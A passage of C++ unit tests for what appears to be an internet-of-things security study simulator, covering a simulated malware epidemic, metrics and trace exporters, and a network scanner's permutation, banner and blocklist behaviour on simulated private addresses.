  EXPECT_LE(epidemic.infected_count(), epidemic.susceptible_count());
  EXPECT_GT(epidemic.attempts(), 0u);

  // Growth curve is monotone in both time and count.
  const auto& curve = epidemic.growth_curve();
  for (std::size_t i = 1; i < curve.size(); ++i) {
    EXPECT_GE(curve[i].first, curve[i - 1].first);
    EXPECT_EQ(curve[i].second, curve[i - 1].second + 1);
  }
}

TEST(Epidemic, OnlySusceptibleDevicesGetInfected) {
  sim::Simulation sim;
  net::Fabric fabric(sim, 29);
  devices::PopulationSpec spec;
  spec.seed = 29;
  spec.scale = 1.0 / 8'192;
  devices::Population population(spec);
  population.build();
  population.attach_all(fabric);

  attackers::MalwareCorpus corpus(29, 0.05);
  attackers::PropagationConfig config;
  config.seed = 29;
  config.duration = sim::days(3);
  config.attempts_per_bot_per_hour = 16.0;
  attackers::Epidemic epidemic(config, population, corpus);
  epidemic.deploy(fabric);
  sim.run_until(sim::days(3));

  for (std::uint64_t i = 0; i < population.size(); ++i) {
    if (!epidemic.is_infected(population.address_at(i))) continue;
    const auto misconfig = population.misconfig_at(i);
    const bool susceptible =
        misconfig == devices::Misconfig::kTelnetNoAuth ||
        misconfig == devices::Misconfig::kTelnetNoAuthRoot ||
        population.weak_credentials_at(i);
    EXPECT_TRUE(susceptible) << population.address_at(i).to_string();
  }
}

}  // namespace
}  // namespace ofh
