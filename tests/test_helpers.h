// Shared fixtures: a simulation + fabric pair and a plain host for driving
// client-side protocol interactions in tests.
#pragma once

#include <gtest/gtest.h>

#include "net/fabric.h"
#include "net/host.h"
#include "sim/simulation.h"

namespace ofh::test {

class SimTest : public ::testing::Test {
 protected:
  SimTest() : fabric_(sim_, /*seed=*/7) {
    fabric_.set_latency(sim::msec(5), sim::msec(1));
  }

  // Runs the simulation until idle or the deadline.
  void run(sim::Duration budget = sim::minutes(10)) {
    sim_.run_until(sim_.now() + budget);
  }

  sim::Simulation sim_;
  net::Fabric fabric_;
};

// A bare host usable as a client endpoint.
class PlainHost : public net::Host {
 public:
  using net::Host::Host;
};

}  // namespace ofh::test
