// The deterministic observability layer: registry mechanics, exporter
// formats, thread-shard merging, and the reconciliation invariants the
// instrumentation promises — fabric packet conservation under loss, scanner
// probe counts matching the scan DB, and study-wide totals matching the
// domain objects they mirror.
#include <gtest/gtest.h>

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "core/study.h"
#include "devices/device.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "scanner/scanner.h"
#include "test_helpers.h"
#include "util/thread_pool.h"

namespace ofh {
namespace {

using util::Ipv4Addr;

obs::Registry& reg() { return obs::Registry::global(); }

std::optional<obs::MetricRow> find_row(const std::string& name) {
  for (const auto& row : reg().snapshot()) {
    if (row.name == name) return row;
  }
  return std::nullopt;
}

std::int64_t value_of(const std::string& name) {
  const auto row = find_row(name);
  return row ? row->value : 0;
}

// ------------------------------------------------------------- registry

TEST(ObsRegistry, CounterGaugeHistogramRoundTrip) {
  reg().reset();
  const auto counter = reg().define("t.counter", obs::Kind::kCounter,
                                    obs::Domain::kSim);
  const auto gauge = reg().define("t.gauge", obs::Kind::kGauge,
                                  obs::Domain::kSim);
  const auto histogram = reg().define("t.histogram", obs::Kind::kHistogram,
                                      obs::Domain::kSim);
  ASSERT_NE(counter, 0u);
  ASSERT_NE(gauge, 0u);
  ASSERT_NE(histogram, 0u);

  reg().add(counter, 3);
  reg().add(counter, 2);
  reg().add(gauge, 10);
  reg().add(gauge, -4);
  reg().observe(histogram, 0);
  reg().observe(histogram, 7);
  reg().observe(histogram, 1'000);

  const auto counter_row = find_row("t.counter");
  ASSERT_TRUE(counter_row.has_value());
  EXPECT_EQ(counter_row->value, 5);
  EXPECT_EQ(value_of("t.gauge"), 6);

  const auto histogram_row = find_row("t.histogram");
  ASSERT_TRUE(histogram_row.has_value());
  EXPECT_EQ(histogram_row->count, 3u);
  EXPECT_EQ(histogram_row->sum, 1'007u);
  EXPECT_EQ(histogram_row->buckets[obs::Registry::bucket_of(0)], 1u);
  EXPECT_EQ(histogram_row->buckets[obs::Registry::bucket_of(7)], 1u);
  EXPECT_EQ(histogram_row->buckets[obs::Registry::bucket_of(1'000)], 1u);
}

TEST(ObsRegistry, DefineIsIdempotentAndConflictsGoToScrap) {
  reg().reset();
  const auto first = reg().define("t.same", obs::Kind::kCounter,
                                  obs::Domain::kSim);
  const auto second = reg().define("t.same", obs::Kind::kCounter,
                                   obs::Domain::kSim);
  EXPECT_EQ(first, second);  // interned, not duplicated
  // Redefining with a different shape is a bug; writes land in the scrap
  // cell instead of corrupting the existing metric.
  const auto conflict = reg().define("t.same", obs::Kind::kHistogram,
                                     obs::Domain::kSim);
  EXPECT_EQ(conflict, 0u);
}

TEST(ObsRegistry, BucketOfIsLogTwoBitWidth) {
  EXPECT_EQ(obs::Registry::bucket_of(0), 0u);
  EXPECT_EQ(obs::Registry::bucket_of(1), 1u);
  EXPECT_EQ(obs::Registry::bucket_of(2), 2u);
  EXPECT_EQ(obs::Registry::bucket_of(3), 2u);
  EXPECT_EQ(obs::Registry::bucket_of(4), 3u);
  EXPECT_EQ(obs::Registry::bucket_of(1'023), 10u);
  EXPECT_EQ(obs::Registry::bucket_of(1'024), 11u);
  EXPECT_EQ(obs::Registry::bucket_of(~std::uint64_t{0}), 64u);
}

TEST(ObsRegistry, ResetZeroesValuesButKeepsDefinitions) {
  reg().reset();
  const auto cell = reg().define("t.reset", obs::Kind::kCounter,
                                 obs::Domain::kSim);
  reg().add(cell, 41);
  reg().record_span("t.span", 1, 2, 3);
  EXPECT_EQ(value_of("t.reset"), 41);
  EXPECT_EQ(reg().spans().size(), 1u);

  reg().reset();
  EXPECT_EQ(value_of("t.reset"), 0);  // still defined, back to zero
  EXPECT_TRUE(find_row("t.reset").has_value());
  EXPECT_TRUE(reg().spans().empty());
  reg().add(cell, 1);  // old handles stay valid
  EXPECT_EQ(value_of("t.reset"), 1);
}

TEST(ObsRegistry, LabeledComposesPrometheusStyleNames) {
  EXPECT_EQ(obs::labeled("scanner.probes", "protocol", "Telnet"),
            "scanner.probes{protocol=\"Telnet\"}");
}

TEST(ObsRegistry, LabeledEscapesHostileValues) {
  // Prometheus exposition rules: backslash, quote and newline are escaped
  // inside label values; anything else (commas included) passes through.
  EXPECT_EQ(obs::labeled("m", "k", "a\\b"), "m{k=\"a\\\\b\"}");
  EXPECT_EQ(obs::labeled("m", "k", "say \"hi\""),
            "m{k=\"say \\\"hi\\\"\"}");
  EXPECT_EQ(obs::labeled("m", "k", "line1\nline2"),
            "m{k=\"line1\\nline2\"}");
  EXPECT_EQ(obs::labeled("m", "k", "a,b"), "m{k=\"a,b\"}");
}

TEST(ObsRegistry, CsvQuotesHostileMetricNames) {
  reg().reset();
  // A banner-derived label value with a comma and a quote: the metric name
  // holds them verbatim (after Prometheus escaping of the quote), so the
  // CSV exporter must emit an RFC-4180 quoted field with doubled quotes —
  // otherwise the row grows extra columns.
  const std::string name = obs::labeled("t.hostile", "banner", "Ac,me \"v2\"");
  const auto cell = reg().define(name, obs::Kind::kCounter, obs::Domain::kSim);
  reg().add(cell, 7);

  const std::string csv = reg().export_csv();
  EXPECT_NE(
      csv.find(
          "\"t.hostile{banner=\"\"Ac,me \\\"\"v2\\\"\"\"\"}\",counter,value,7"),
      std::string::npos)
      << csv;
  // The raw (unquoted) name must not appear as a bare field.
  EXPECT_EQ(csv.find("t.hostile{banner=\"Ac,me"), std::string::npos) << csv;
}

TEST(ObsRegistry, HistogramQuantilesAreExactFromBuckets) {
  // 100 samples: 50 land in bucket_of(3)=2 (upper bound 3), 45 in
  // bucket_of(100)=7 (upper 127), 5 in bucket_of(5000)=13 (upper 8191).
  obs::MetricRow row;
  row.kind = obs::Kind::kHistogram;
  row.count = 100;
  row.buckets[obs::Registry::bucket_of(3)] = 50;
  row.buckets[obs::Registry::bucket_of(100)] = 45;
  row.buckets[obs::Registry::bucket_of(5'000)] = 5;

  EXPECT_EQ(obs::histogram_quantile(row, 0.50), 3u);    // rank 50: 1st bucket
  EXPECT_EQ(obs::histogram_quantile(row, 0.95), 127u);  // rank 95: 2nd bucket
  EXPECT_EQ(obs::histogram_quantile(row, 0.99), 8'191u);
  EXPECT_EQ(obs::histogram_quantile(row, 0.0), 3u);  // clamped to rank 1
  EXPECT_EQ(obs::histogram_quantile(row, 1.0), 8'191u);

  const obs::MetricRow empty;
  EXPECT_EQ(obs::histogram_quantile(empty, 0.5), 0u);
}

TEST(ObsRegistry, ProfileCarriesHistogramPercentiles) {
  reg().reset();
  const auto cell = reg().define("t.profile_hist", obs::Kind::kHistogram,
                                 obs::Domain::kWall);
  for (std::uint64_t v = 1; v <= 100; ++v) reg().observe(cell, v);
  const std::string profile = reg().export_profile();
  // Values 1..100: rank 50 lands in bucket_of(50)=6 (upper 63), ranks 95
  // and 99 in bucket_of(95)=7 (upper 127).
  EXPECT_NE(profile.find("t.profile_hist count=100 sum=5050 "
                         "p50=63 p95=127 p99=127"),
            std::string::npos)
      << profile;
}

TEST(ObsRegistry, WallDomainStaysOutOfDeterministicExports) {
  reg().reset();
  const auto sim_cell = reg().define("t.sim_only", obs::Kind::kCounter,
                                     obs::Domain::kSim);
  const auto wall_cell = reg().define("t.wall_only", obs::Kind::kCounter,
                                      obs::Domain::kWall);
  reg().add(sim_cell, 1);
  reg().add(wall_cell, 1);

  const std::string prom = reg().export_prometheus();
  const std::string csv = reg().export_csv();
  EXPECT_NE(prom.find("t_sim_only"), std::string::npos);
  EXPECT_EQ(prom.find("t_wall_only"), std::string::npos);
  EXPECT_NE(csv.find("t.sim_only"), std::string::npos);
  EXPECT_EQ(csv.find("t.wall_only"), std::string::npos);
  // The profile channel is where wall metrics surface (raw names there).
  EXPECT_NE(reg().export_profile().find("t.wall_only"), std::string::npos);
}

TEST(ObsRegistry, PrometheusExportShapes) {
  reg().reset();
  const auto counter = reg().define("t.export_counter", obs::Kind::kCounter,
                                    obs::Domain::kSim);
  const auto histogram = reg().define("t.export_hist", obs::Kind::kHistogram,
                                      obs::Domain::kSim);
  reg().add(counter, 12);
  reg().observe(histogram, 5);

  const std::string prom = reg().export_prometheus();
  EXPECT_NE(prom.find("# TYPE ofh_t_export_counter counter"),
            std::string::npos);
  EXPECT_NE(prom.find("ofh_t_export_counter 12"), std::string::npos);
  EXPECT_NE(prom.find("# TYPE ofh_t_export_hist histogram"),
            std::string::npos);
  EXPECT_NE(prom.find("ofh_t_export_hist_count 1"), std::string::npos);
  EXPECT_NE(prom.find("ofh_t_export_hist_sum 5"), std::string::npos);
  EXPECT_NE(prom.find("le=\"+Inf\""), std::string::npos);

  const std::string csv = reg().export_csv();
  EXPECT_NE(csv.find("metric,kind,field,value"), std::string::npos);
  EXPECT_NE(csv.find("t.export_counter,counter,value,12"), std::string::npos);
}

// ----------------------------------------------------------- thread merge

TEST(ObsThreading, ShardsMergeExactlyAcrossWorkerThreads) {
#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  reg().reset();
  const obs::Counter hits = obs::counter("t.hammer");
  constexpr int kTasks = 64;
  constexpr int kIncrementsPerTask = 1'000;
  {
    util::ThreadPool pool(8);
    for (int task = 0; task < kTasks; ++task) {
      pool.submit([hits] {
        for (int i = 0; i < kIncrementsPerTask; ++i) hits.inc();
      });
    }
    pool.wait_idle();
    // Live shards are summed while worker threads still exist...
    EXPECT_EQ(value_of("t.hammer"), kTasks * kIncrementsPerTask);
  }
  // ...and retired shards keep their totals after the pool is destroyed.
  EXPECT_EQ(value_of("t.hammer"), kTasks * kIncrementsPerTask);
#endif
}

// ------------------------------------------------------- flight recorder

obs::TraceEvent packet_event(std::uint64_t when) {
  obs::TraceEvent event;
  event.type = obs::TraceEventType::kPacketSend;
  event.time = when;
  event.src = 1;
  event.dst = 2;
  event.port = 23;
  return event;
}

TEST(ObsTrace, RingWraparoundEvictsOldestAndCountsDrops) {
  auto& traces = obs::TraceRegistry::global();
  traces.reset();
  traces.set_capacity(/*packet_events=*/32, /*session_events=*/32);
  obs::TraceRecorder& recorder = traces.recorder(/*shard=*/7);

  for (std::uint64_t i = 0; i < 100; ++i) recorder.record(packet_event(i));

  EXPECT_EQ(recorder.recorded(), 100u);
  EXPECT_GT(recorder.dropped(), 0u);
  const auto events = traces.merged();
  // The ring holds at most its capacity; eviction pops whole oldest chunks,
  // so what remains is exactly the newest suffix of the stream.
  ASSERT_LE(events.size(), 32u);
  ASSERT_FALSE(events.empty());
  EXPECT_EQ(events.size() + recorder.dropped(), 100u);
  EXPECT_EQ(events.back().time, 99u);
  EXPECT_EQ(events.front().time, 100 - events.size());  // oldest are gone
  for (std::size_t i = 1; i < events.size(); ++i) {
    EXPECT_EQ(events[i].time, events[i - 1].time + 1);  // contiguous suffix
  }

  // Restore defaults so later study tests run with real capacities.
  traces.set_capacity(obs::kDefaultPacketRingEvents,
                      obs::kDefaultSessionRingEvents);
  traces.reset();
}

TEST(ObsTrace, SessionRingSurvivesPacketFlood) {
  auto& traces = obs::TraceRegistry::global();
  traces.reset();
  traces.set_capacity(/*packet_events=*/32, /*session_events=*/32);
  obs::TraceRecorder& recorder = traces.recorder(/*shard=*/7);

  // Interleave: a packet flood must not evict the session narrative,
  // because the two classes ring independently.
  for (std::uint64_t i = 0; i < 10; ++i) {
    obs::TraceEvent session;
    session.type = obs::TraceEventType::kSessionCommand;
    session.time = i;
    session.src = 3;
    recorder.record(session);
    for (std::uint64_t j = 0; j < 50; ++j) {
      recorder.record(packet_event(i * 100 + j));
    }
  }

  std::size_t sessions = 0;
  for (const auto& event : traces.merged()) {
    if (event.type == obs::TraceEventType::kSessionCommand) ++sessions;
  }
  EXPECT_EQ(sessions, 10u);  // every session event retained

  traces.set_capacity(obs::kDefaultPacketRingEvents,
                      obs::kDefaultSessionRingEvents);
  traces.reset();
}

// ------------------------------------------------------ fabric conservation

class ObsLossSweep : public ::testing::TestWithParam<double> {};

TEST_P(ObsLossSweep, PacketConservationIsExact) {
#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  reg().reset();
  const double loss = GetParam();
  sim::Simulation sim;
  net::Fabric fabric(sim, 3);
  fabric.set_loss_rate(loss);

  std::vector<std::unique_ptr<devices::Device>> hosts;
  for (int i = 1; i <= 60; ++i) {
    devices::DeviceSpec spec;
    spec.address = Ipv4Addr(10, 3, 0, static_cast<std::uint8_t>(i));
    spec.primary = proto::Protocol::kMqtt;
    spec.misconfig = devices::Misconfig::kMqttNoAuth;
    hosts.push_back(std::make_unique<devices::Device>(std::move(spec)));
    hosts.back()->attach(fabric);
  }

  scanner::ScanDb db;
  scanner::Scanner scanner(Ipv4Addr(9, 9, 9, 9), db);
  scanner.attach(fabric);
  scanner::ScanConfig config;
  config.protocol = proto::Protocol::kMqtt;
  config.targets = {*util::Cidr::parse("10.3.0.0/24")};
  bool done = false;
  scanner.start(config, [&done] { done = true; });
  sim.run();  // full drain: no packet may remain in flight
  ASSERT_TRUE(done);

  const std::int64_t sent = value_of("fabric.packets_sent");
  const std::int64_t delivered = value_of("fabric.packets_delivered");
  const std::int64_t dropped = value_of("fabric.packets_dropped");
  EXPECT_GT(sent, 0);
  EXPECT_EQ(sent, delivered + dropped) << "loss=" << loss;
  EXPECT_EQ(value_of("fabric.packets_inflight"), 0) << "loss=" << loss;

  // The obs totals mirror the fabric's own accounting exactly.
  EXPECT_EQ(sent, static_cast<std::int64_t>(fabric.packets_sent()));
  EXPECT_EQ(delivered,
            static_cast<std::int64_t>(fabric.packets_delivered()));
  EXPECT_EQ(dropped, static_cast<std::int64_t>(fabric.packets_dropped()));

  // Scanner probes reconcile with the scan DB's probe ledger, and every
  // probe maps to at least one fabric send.
  const std::int64_t probes = value_of("scanner.probes_sent");
  EXPECT_EQ(probes, static_cast<std::int64_t>(db.probes_sent()));
  EXPECT_EQ(probes,
            value_of(obs::labeled("scanner.probes", "protocol", "MQTT")));
  EXPECT_LE(probes, sent);
#endif
}

INSTANTIATE_TEST_SUITE_P(Rates, ObsLossSweep,
                         ::testing::Values(0.0, 0.05, 0.3, 1.0));

// ------------------------------------------------- study-wide reconciliation

core::StudyConfig scan_only_config(unsigned threads) {
  core::StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 16'384;
  config.scan_threads = threads;
  return config;
}

TEST(ObsStudy, ScanMetricsReconcileAtEveryThreadCount) {
#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  for (const unsigned threads : {1u, 2u, 8u}) {
    core::Study study(scan_only_config(threads));
    study.setup_internet();
    study.run_scan();

    // Probes: the obs ledger, the merged scan DB and the per-protocol
    // labeled counters must all tell the same story.
    const std::int64_t probes = value_of("scanner.probes_sent");
    EXPECT_EQ(probes,
              static_cast<std::int64_t>(study.scan_db().probes_sent()))
        << "scan_threads=" << threads;
    std::int64_t by_protocol = 0;
    for (const auto protocol : proto::scanned_protocols()) {
      by_protocol += value_of(obs::labeled(
          "scanner.probes", "protocol", proto::protocol_name(protocol)));
    }
    EXPECT_EQ(by_protocol, probes) << "scan_threads=" << threads;

    // Records: one obs increment per stored record.
    EXPECT_EQ(value_of("scanner.records"),
              static_cast<std::int64_t>(study.scan_db().size()))
        << "scan_threads=" << threads;

    // Fabric conservation across every shard replica. Shards stop stepping
    // the moment their sweep resolves, so scheduled-but-unresolved
    // deliveries remain: the inflight gauge accounts for them exactly.
    EXPECT_EQ(value_of("fabric.packets_sent"),
              value_of("fabric.packets_delivered") +
                  value_of("fabric.packets_dropped") +
                  value_of("fabric.packets_inflight"))
        << "scan_threads=" << threads;
  }
#endif
}

TEST(ObsStudy, FullRunReconcilesEventAndTelescopeTotals) {
#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  core::StudyConfig config;
  config.population_scale = 1.0 / 8'192;
  config.attack_scale = 1.0 / 128;
  config.attack_duration = sim::days(6);
  core::Study study(config);
  study.run_all();

  EXPECT_EQ(value_of("honeynet.events"),
            static_cast<std::int64_t>(study.attack_log().size()));
  EXPECT_EQ(value_of("telescope.packets"),
            static_cast<std::int64_t>(study.scope().total_packets()));
  EXPECT_EQ(value_of("telescope.spoofed_packets"),
            static_cast<std::int64_t>(study.scope().spoofed_packets()));
  EXPECT_EQ(value_of("telescope.flowtuples"),
            static_cast<std::int64_t>(study.scope().tuples().size()));
  EXPECT_EQ(value_of("telescope.rsdos_backscatter"),
            static_cast<std::int64_t>(study.rsdos().backscatter_packets()));

  // Every phase recorded a span and captured a metrics snapshot.
  ASSERT_EQ(study.phase_metrics().size(), 5u);
  EXPECT_EQ(study.phase_metrics().front().first, "setup");
  EXPECT_EQ(study.phase_metrics().back().first, "correlate");
  const auto spans = obs::Registry::global().spans();
  ASSERT_EQ(spans.size(), 6u);  // 5 phases + the scan/filter sub-span
  for (const auto& span : spans) {
    EXPECT_LE(span.sim_start, span.sim_end) << span.name;
  }
  // The deterministic export carries the spans with sim timestamps.
  EXPECT_NE(study.metrics_prometheus().find("# span correlate"),
            std::string::npos);
  // The profile channel is non-empty (wall times, thread-pool metrics).
  EXPECT_FALSE(study.metrics_profile().empty());
#endif
}

}  // namespace
}  // namespace ofh
