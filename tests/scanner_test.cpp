// Scanner engine tests: permutation properties, sweep completeness, banner
// collection per protocol, blocklists and UDP probing.
#include <gtest/gtest.h>

#include <set>

#include "devices/device.h"
#include "honeynet/honeypot.h"
#include "scanner/permutation.h"
#include "scanner/scanner.h"
#include "test_helpers.h"

namespace ofh::scanner {
namespace {

using test::SimTest;
using util::Ipv4Addr;

// ------------------------------------------------------------- permutation

class PermutationSize : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(PermutationSize, VisitsEveryIndexExactlyOnce) {
  const std::uint64_t size = GetParam();
  AddressPermutation permutation(size, 1234);
  std::set<std::uint64_t> seen;
  while (const auto index = permutation.next()) {
    EXPECT_LT(*index, size);
    EXPECT_TRUE(seen.insert(*index).second) << "duplicate " << *index;
  }
  EXPECT_EQ(seen.size(), size);
}

INSTANTIATE_TEST_SUITE_P(Sizes, PermutationSize,
                         ::testing::Values(1, 2, 3, 7, 64, 100, 1023, 1024,
                                           1025, 40'000));

TEST(Permutation, EveryTinySizeIsFullPeriodForEverySeedShape) {
  // Exhaustive 1..64 sweep: the degenerate-parameter hardening widens tiny
  // cycles to 64 states; each (size, seed) must still visit every index
  // exactly once, including seed 0 and all-ones.
  const std::uint64_t seeds[] = {0, 1, 42, 0xffffffffffffffffull};
  for (std::uint64_t size = 1; size <= 64; ++size) {
    for (const auto seed : seeds) {
      AddressPermutation permutation(size, seed);
      std::set<std::uint64_t> seen;
      while (const auto index = permutation.next()) {
        ASSERT_LT(*index, size);
        ASSERT_TRUE(seen.insert(*index).second)
            << "size " << size << " seed " << seed << " repeats " << *index;
      }
      ASSERT_EQ(seen.size(), size) << "size " << size << " seed " << seed;
    }
  }
}

TEST(Permutation, TinySizesAreNotIncrementWalks) {
  // The pre-hardening bug: with modulus <= 4 the derived multiplier
  // collapsed to 1 and the "permutation" was a pure +1 walk. At 64 states
  // no value is rejected, so any increment pattern would be fully visible.
  for (std::uint64_t seed = 0; seed < 32; ++seed) {
    AddressPermutation permutation(64, seed);
    int increments = 0;
    auto previous = *permutation.next();
    for (int i = 1; i < 64; ++i) {
      const auto current = *permutation.next();
      if (current == (previous + 1) % 64) ++increments;
      previous = current;
    }
    EXPECT_LT(increments, 32) << "seed " << seed << " walks by increments";
  }
}

TEST(Permutation, NearFullAddressSpaceSizeStaysInRangeAndDistinct) {
  // A /0-scale sweep: size just under 2^32 forces the widest modulus.
  // Enumerating the cycle is infeasible; check a long prefix for range and
  // distinctness instead.
  const std::uint64_t size = (std::uint64_t{1} << 32) - 5;
  AddressPermutation permutation(size, 77);
  std::set<std::uint64_t> seen;
  for (int i = 0; i < 100'000; ++i) {
    const auto index = permutation.next();
    ASSERT_TRUE(index.has_value());
    ASSERT_LT(*index, size);
    ASSERT_TRUE(seen.insert(*index).second) << "repeat " << *index;
  }
}

TEST(Permutation, DifferentSeedsGiveDifferentOrders) {
  AddressPermutation a(1000, 1), b(1000, 2);
  int same_position = 0;
  for (int i = 0; i < 1000; ++i) {
    if (*a.next() == *b.next()) ++same_position;
  }
  EXPECT_LT(same_position, 50);
}

TEST(Permutation, OrderIsDecorrelatedFromIndexOrder) {
  AddressPermutation permutation(10'000, 99);
  // Count ascending adjacent pairs; a sequential sweep would have ~100%.
  int ascending = 0;
  auto previous = *permutation.next();
  for (int i = 1; i < 10'000; ++i) {
    const auto current = *permutation.next();
    if (current == previous + 1) ++ascending;
    previous = current;
  }
  EXPECT_LT(ascending, 100);
}

TEST(Permutation, SameSeedIsReproducible) {
  AddressPermutation a(5'000, 7), b(5'000, 7);
  for (int i = 0; i < 5'000; ++i) EXPECT_EQ(*a.next(), *b.next());
}

// ------------------------------------------------------------------ scan db

TEST(ScanDb, TracksUniqueHostsPerProtocol) {
  ScanDb db;
  db.add({Ipv4Addr(1, 2, 3, 4), 23, proto::Protocol::kTelnet, "x", 0});
  db.add({Ipv4Addr(1, 2, 3, 4), 2323, proto::Protocol::kTelnet, "y", 0});
  db.add({Ipv4Addr(1, 2, 3, 5), 23, proto::Protocol::kTelnet, "z", 0});
  db.add({Ipv4Addr(1, 2, 3, 4), 1883, proto::Protocol::kMqtt, "m", 0});
  EXPECT_EQ(db.unique_hosts(proto::Protocol::kTelnet), 2u);
  EXPECT_EQ(db.unique_hosts(proto::Protocol::kMqtt), 1u);
  EXPECT_EQ(db.unique_hosts(proto::Protocol::kCoap), 0u);
  EXPECT_EQ(db.unique_hosts_total(), 2u);
  EXPECT_EQ(db.for_protocol(proto::Protocol::kTelnet).size(), 3u);
}

// -------------------------------------------------------------- full sweeps

class ScannerTest : public SimTest {
 protected:
  ScannerTest() : scanner_(Ipv4Addr(9, 9, 9, 9), db_) {
    scanner_.attach(fabric_);
  }

  // Runs one sweep over the given /24 and returns when complete.
  void sweep(proto::Protocol protocol, util::Cidr target,
             std::vector<util::Cidr> blocklist = {}) {
    ScanConfig config;
    config.protocol = protocol;
    config.targets = {target};
    config.blocklist = std::move(blocklist);
    config.batch_size = 64;
    bool done = false;
    scanner_.start(config, [&done] { done = true; });
    while (!done && sim_.step()) {
    }
    EXPECT_TRUE(done);
  }

  devices::DeviceSpec make_spec(Ipv4Addr addr, proto::Protocol protocol,
                                devices::Misconfig misconfig) {
    devices::DeviceSpec spec;
    spec.address = addr;
    spec.primary = protocol;
    spec.misconfig = misconfig;
    return spec;
  }

  ScanDb db_;
  Scanner scanner_;
};

TEST_F(ScannerTest, FindsOpenTelnetConsoleBanner) {
  devices::Device device(make_spec(Ipv4Addr(10, 1, 0, 33),
                                   proto::Protocol::kTelnet,
                                   devices::Misconfig::kTelnetNoAuthRoot));
  device.attach(fabric_);
  sweep(proto::Protocol::kTelnet, *util::Cidr::parse("10.1.0.0/24"));

  EXPECT_EQ(db_.unique_hosts(proto::Protocol::kTelnet), 1u);
  const auto records = db_.for_protocol(proto::Protocol::kTelnet);
  ASSERT_FALSE(records.empty());
  EXPECT_NE(records[0]->banner.find("root@"), std::string::npos);
}

TEST_F(ScannerTest, MissesNothingInPopulatedRange) {
  std::vector<std::unique_ptr<devices::Device>> devices;
  for (int i = 1; i <= 40; ++i) {
    devices.push_back(std::make_unique<devices::Device>(
        make_spec(Ipv4Addr(10, 2, 0, static_cast<std::uint8_t>(i)),
                  proto::Protocol::kMqtt, devices::Misconfig::kMqttNoAuth)));
    devices.back()->attach(fabric_);
  }
  sweep(proto::Protocol::kMqtt, *util::Cidr::parse("10.2.0.0/24"));
  EXPECT_EQ(db_.unique_hosts(proto::Protocol::kMqtt), 40u);
}

TEST_F(ScannerTest, MqttBannerCarriesConnectCode) {
  devices::Device open_device(make_spec(Ipv4Addr(10, 3, 0, 1),
                                        proto::Protocol::kMqtt,
                                        devices::Misconfig::kMqttNoAuth));
  devices::Device closed_device(make_spec(Ipv4Addr(10, 3, 0, 2),
                                          proto::Protocol::kMqtt,
                                          devices::Misconfig::kNone));
  open_device.attach(fabric_);
  closed_device.attach(fabric_);
  sweep(proto::Protocol::kMqtt, *util::Cidr::parse("10.3.0.0/24"));

  bool saw_open = false, saw_denied = false;
  for (const auto* record : db_.for_protocol(proto::Protocol::kMqtt)) {
    if (record->banner.find("MQTT Connection Code:0") != std::string::npos) {
      saw_open = true;
    }
    if (record->banner.find("MQTT Connection Code:5") != std::string::npos) {
      saw_denied = true;
    }
  }
  EXPECT_TRUE(saw_open);
  EXPECT_TRUE(saw_denied);
}

TEST_F(ScannerTest, AmqpBannerCarriesVersionAndMechanisms) {
  devices::Device device(make_spec(Ipv4Addr(10, 4, 0, 2),
                                   proto::Protocol::kAmqp,
                                   devices::Misconfig::kAmqpNoAuth));
  device.attach(fabric_);
  sweep(proto::Protocol::kAmqp, *util::Cidr::parse("10.4.0.0/24"));
  const auto records = db_.for_protocol(proto::Protocol::kAmqp);
  ASSERT_EQ(records.size(), 1u);
  EXPECT_NE(records[0]->banner.find("Version: 2.7.1"), std::string::npos);
  EXPECT_NE(records[0]->banner.find("ANONYMOUS"), std::string::npos);
}

TEST_F(ScannerTest, CoapProbeDisclosesResourcesAndAccessLevel) {
  devices::Device reflector(make_spec(Ipv4Addr(10, 5, 0, 1),
                                      proto::Protocol::kCoap,
                                      devices::Misconfig::kCoapReflector));
  devices::Device open_device(make_spec(Ipv4Addr(10, 5, 0, 2),
                                        proto::Protocol::kCoap,
                                        devices::Misconfig::kCoapNoAuth));
  devices::Device hardened(make_spec(Ipv4Addr(10, 5, 0, 3),
                                     proto::Protocol::kCoap,
                                     devices::Misconfig::kNone));
  reflector.attach(fabric_);
  open_device.attach(fabric_);
  hardened.attach(fabric_);
  sweep(proto::Protocol::kCoap, *util::Cidr::parse("10.5.0.0/24"));

  ASSERT_EQ(db_.unique_hosts(proto::Protocol::kCoap), 3u);
  std::string reflector_banner, open_banner, hardened_banner;
  for (const auto* record : db_.for_protocol(proto::Protocol::kCoap)) {
    if (record->host == reflector.address()) reflector_banner = record->banner;
    if (record->host == open_device.address()) open_banner = record->banner;
    if (record->host == hardened.address()) hardened_banner = record->banner;
  }
  EXPECT_NE(reflector_banner.find("CoAP Resources"), std::string::npos);
  EXPECT_EQ(reflector_banner.find("x1C"), std::string::npos);  // locked down
  EXPECT_NE(open_banner.find("x1C"), std::string::npos);       // full access
  EXPECT_NE(hardened_banner.find("4.01"), std::string::npos);
}

TEST_F(ScannerTest, UpnpProbeRecordsHttpuResponse) {
  devices::DeviceSpec spec = make_spec(Ipv4Addr(10, 6, 0, 7),
                                       proto::Protocol::kUpnp,
                                       devices::Misconfig::kUpnpReflector);
  spec.model = devices::models_for(proto::Protocol::kUpnp).front();
  devices::Device device(std::move(spec));
  device.attach(fabric_);
  sweep(proto::Protocol::kUpnp, *util::Cidr::parse("10.6.0.0/24"));
  const auto records = db_.for_protocol(proto::Protocol::kUpnp);
  ASSERT_EQ(records.size(), 1u);
  EXPECT_NE(records[0]->banner.find("USN:"), std::string::npos);
  EXPECT_NE(records[0]->banner.find("LOCATION:"), std::string::npos);
}

TEST_F(ScannerTest, BlocklistIsNeverProbed) {
  devices::Device device(make_spec(Ipv4Addr(10, 7, 0, 1),
                                   proto::Protocol::kTelnet,
                                   devices::Misconfig::kTelnetNoAuth));
  device.attach(fabric_);
  sweep(proto::Protocol::kTelnet, *util::Cidr::parse("10.7.0.0/24"),
        {*util::Cidr::parse("10.7.0.0/24")});
  EXPECT_EQ(db_.unique_hosts(proto::Protocol::kTelnet), 0u);
}

TEST_F(ScannerTest, DefaultBlocklistCoversReservedRanges) {
  const auto blocklist = default_blocklist();
